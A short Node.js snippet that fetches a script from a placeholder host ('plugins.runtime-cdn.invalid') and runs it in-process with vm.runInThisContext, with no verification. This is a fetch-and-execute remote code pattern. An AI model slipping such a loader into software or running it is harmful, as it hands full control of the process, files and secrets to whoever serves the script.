const https = require('https'), vm = require('vm');
https.get('https://plugins.runtime-cdn.invalid/p.js', (res) => {
  let code = '';
  res.on('data', (c) => (code += c));
  res.on('end', () => vm.runInThisContext(code));
});
